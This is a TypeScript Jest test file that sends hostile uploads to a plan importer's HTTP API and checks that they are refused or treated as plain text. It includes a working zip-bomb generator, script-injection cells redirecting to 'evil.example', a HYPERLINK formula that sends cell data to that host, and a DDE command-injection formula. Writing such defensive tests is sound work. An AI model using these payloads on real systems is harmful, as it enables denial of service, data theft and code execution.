import { deflateRawSync, crc32 } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { Workbook } from 'exceljs';
import JSZip from 'jszip';
import { buildAppendixDocx } from '@app/domain/plan-import/testing/appendix-fixtures';
import { giveDemoPasswords, DEMO_PASSWORD } from '../support/auth';
import { env, useStack } from '../support/stack';
import { ApiProcess, call, loginOver, startApiProcess } from './support';

jest.setTimeout(600_000);

/** A one-entry zip whose entry inflates to `size` bytes of a repeated XML run: ~1,000:1. */
function zipBomb(entryName: string, size: number): Buffer {
  const unit = Buffer.from('<w:p><w:r><w:t>a</w:t></w:r></w:p>');
  const plain = Buffer.alloc(size);
  for (let i = 0; i < size; i += unit.length) unit.copy(plain, i);
  const data = deflateRawSync(plain, { level: 9 });
  const name = Buffer.from(entryName);
  const crc = crc32(plain);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(size, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(size, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

/** A workbook with a sheet of notes and no appendix table at all. */
async function xlsxWithoutTable(): Promise<Buffer> {
  const wb = new Workbook();
  wb.addWorksheet('Ghi chú').addRow(['Kế hoạch sẽ gửi sau.']);
  wb.addWorksheet('Trống');
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const HTML_TITLE = '<img src=x onerror="alert(1)"><script>document.location="http://evil.example"</script>Rà soát thủ tục';
const FORMULA_RESULT = 'Tổng hợp báo cáo quý';

/** An appendix whose cells carry HTML, a formula with its saved result, and text that looks like a formula. */
async function xlsxWithFormulasAndHtml(): Promise<Buffer> {
  const wb = new Workbook();
  const sheet = wb.addWorksheet('Phụ lục');
  sheet.addRow(['PHỤ LỤC']);
  sheet.addRow(['STT', 'Nhiệm vụ cụ thể', 'Cơ quan chủ trì', 'Cơ quan phối hợp', 'Thời gian thực hiện', 'Ghi chú']);
  sheet.addRow(['I. NHIỆM VỤ']);
  sheet.addRow([1, HTML_TITLE, 'Văn phòng Sở', 'Thanh tra Sở', 'Tháng 6/2030', '<b onmouseover=alert(2)>ghi chú</b>']);
  sheet.addRow([2, { formula: 'HYPERLINK("http://evil.example/?"&A1,"Tổng hợp báo cáo quý")', result: FORMULA_RESULT }, 'Văn phòng Sở', '', 'Tháng 9/2030', '']);
  sheet.addRow([3, `=cmd|' /C calc'!A0 Kiểm tra`, 'Thanh tra Sở', '', 'Tháng 10/2030', '']);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/**
 * Hostile files to `POST /plans/imports` of a real API process: each is refused with a clear 4xx
 * `{code, message}` or read as plain text (cells' HTML is text, a formula gives its saved result,
 * never its formula), the process keeps answering, and no plan, task or upload is left behind.
 */
describe('fault: hostile files to the plan importer over HTTP', () => {
  const stack = useStack('fault-files');
  let api: ApiProcess;
  let token: string;

  const counts = async () => {
    const [r] = await stack.ds.query(
      `SELECT (SELECT count(*)::int FROM plans WHERE organization_id = $1) AS plans,
              (SELECT count(*)::int FROM tasks WHERE organization_id = $1) AS tasks,
              (SELECT count(*)::int FROM plan_imports WHERE organization_id = $1) AS imports`,
      [stack.org.organizationId],
    );
    return r as { plans: number; tasks: number; imports: number };
  };

  /**
   * One upload on a connection of its own (node:http, no keep-alive): a refusal the server sends
   * before it has read a whole body leaves that socket unusable, and a client that reuses it (fetch's
   * pool) loses the next answer for reasons of its own, not the server's.
   */
  const upload = async (content: Buffer, filename: string): Promise<{ status: number; body: Record<string, unknown> }> => {
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(content)]), filename);
    const encoded = new Response(form);
    const body = Buffer.from(await encoded.arrayBuffer());
    const url = new URL(`${api.url}/plans/imports`);
    return new Promise((resolve) => {
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: 'POST',
          agent: false,
          timeout: 120_000,
          headers: { authorization: `Bearer ${token}`, 'content-type': encoded.headers.get('content-type')!, 'content-length': body.length },
        },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => {
            const text = Buffer.concat(chunks).toString('utf8');
            try {
              resolve({ status: res.statusCode ?? 0, body: (JSON.parse(text || 'null') ?? {}) as Record<string, unknown> });
            } catch {
              resolve({ status: 0, body: { error: `not JSON (${res.statusCode}): ${text.slice(0, 300)}` } });
            }
          });
        },
      );
      // The server may close the connection while a too-large body is still being sent: the answer is then lost, not wrong.
      req.on('error', (err) => resolve({ status: 0, body: { error: `${String(err)}; API exit ${api.child.exitCode ?? '-'} ${api.child.signalCode ?? ''}; log: ${api.output().slice(-1500)}` } }));
      req.on('timeout', () => req.destroy(new Error('no answer within 120 s')));
      req.end(body);
    });
  };

  beforeAll(async () => {
    await giveDemoPasswords(stack.ds, stack.org.organizationId);
    api = await startApiProcess({
      TEMPORAL_TASK_QUEUE: stack.taskQueue,
      ATTACHMENTS_DIR: join(env('PLANFLOW_TEST_DIR'), 'fault-files-attachments'),
      NODE_OPTIONS: '--max-old-space-size=512',
    });
    token = await loginOver(api.url, `${stack.org.code.toLowerCase()}.vp.chuyenvien`, DEMO_PASSWORD);
  });

  afterAll(async () => {
    await api?.stop();
  });

  const sampleDocx = () => buildAppendixDocx();

  const hostile: Array<[string, () => Promise<{ content: Buffer; name: string }>, number[]]> = [
    ['a truncated .docx (first half of a real one)', async () => ({ content: (await sampleDocx()).subarray(0, Math.floor((await sampleDocx()).length / 2)), name: 'ke-hoach.docx' }), [415, 422]],
    ['a .docx with document.xml cut mid-tag', async () => {
      const zip = await JSZip.loadAsync(await sampleDocx());
      const xml = await zip.file('word/document.xml')!.async('string');
      zip.file('word/document.xml', xml.slice(0, Math.floor(xml.length / 2)));
      return { content: await zip.generateAsync({ type: 'nodebuffer' }), name: 'ke-hoach.docx' };
    }, [422]],
    ['random bytes named .docx', async () => ({ content: randomBytes(64 * 1024), name: 'ke-hoach.docx' }), [415, 422]],
    ['random bytes behind a zip signature named .docx', async () => ({ content: Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(64 * 1024)]), name: 'ke-hoach.docx' }), [415, 422]],
    ['a zip bomb (.docx: 300 KB inflating to 400 MB of XML)', async () => ({ content: zipBomb('word/document.xml', 400 * 1024 * 1024), name: 'ke-hoach.docx' }), [413, 422]],
    ['a 50 MB file', async () => ({ content: Buffer.alloc(50 * 1024 * 1024, 'a'), name: 'ke-hoach.txt' }), [413]],
  ];

  it.each(hostile)('refuses %s with a clear 4xx {code, message}, stays up, stores nothing', async (_what, make, statuses) => {
    const before = await counts();
    const { content, name } = await make();
    const res = await upload(content, name);
    if (res.status !== 0) {
      expect(statuses).toContain(res.status);
      expect(res.body).toMatchObject({ code: expect.stringMatching(/^[A-Z_]+$/), message: expect.any(String) });
      expect(String(res.body.message).length).toBeGreaterThan(10);
    } else {
      // Only for the 50 MB body: the server answered 413 and closed the socket before the upload ended.
      // (The error is in the failure message: an unanswered small upload is a bug to look at.)
      if (name !== 'ke-hoach.txt') throw new Error(`no answer to ${name}: ${String(res.body?.error)}`);
    }
    const health = await call(`${api.url}/health`);
    expect(health.status).toBe(200);
    expect(api.child.exitCode).toBeNull();
    expect(await counts()).toEqual(before);
  });

  it('previews an .xlsx without any table as not importable, with a located error, and stores nothing of a plan', async () => {
    const before = await counts();
    const res = await upload(await xlsxWithoutTable(), 'ke-hoach.xlsx');
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ importable: false });
    const parse = res.body.parse as { tasks: unknown[]; errors: Array<{ code: string; message: string }> };
    expect(parse.tasks).toEqual([]);
    expect(parse.errors.length).toBeGreaterThan(0);
    expect(parse.errors[0]).toMatchObject({ code: expect.stringMatching(/^[A-Z_]+$/), message: expect.any(String) });
    // Confirming it is refused with a clear 422 and stores nothing.
    const confirm = await call(`${api.url}/plans/imports/${String(res.body.id)}/confirm`, { method: 'POST', token, body: { acceptWarnings: true } });
    expect(confirm.status).toBe(422);
    expect(confirm.body).toMatchObject({ code: expect.stringMatching(/^[A-Z_]+$/), message: expect.any(String) });
    expect(await counts()).toEqual({ ...before, imports: before.imports + 1 });
  });

  it('reads HTML in cells as plain text and a formula as its saved result, and storing it keeps them as text', async () => {
    const before = await counts();
    const res = await upload(await xlsxWithFormulasAndHtml(), 'ke-hoach-doc-hai.xlsx');
    expect(res.status).toBe(201);
    const parse = res.body.parse as { tasks: Array<{ title: string; note: string | null }> };
    const titles = parse.tasks.map((t) => t.title);
    expect(titles).toHaveLength(3);
    expect(titles[0]).toBe(HTML_TITLE);
    expect(titles[1]).toBe(FORMULA_RESULT);
    expect(titles.join('\n')).not.toMatch(/HYPERLINK|evil\.example\/\?/);
    // Only the upload is stored until confirm; discarding it leaves nothing.
    expect(await counts()).toEqual({ ...before, imports: before.imports + 1 });
    const id = String(res.body.id ?? res.body.importId);
    const del = await call(`${api.url}/plans/imports/${id}`, { method: 'DELETE', token });
    expect(del.status).toBeLessThan(300);
    const after = await counts();
    expect({ plans: after.plans, tasks: after.tasks }).toEqual({ plans: before.plans, tasks: before.tasks });
  });
});
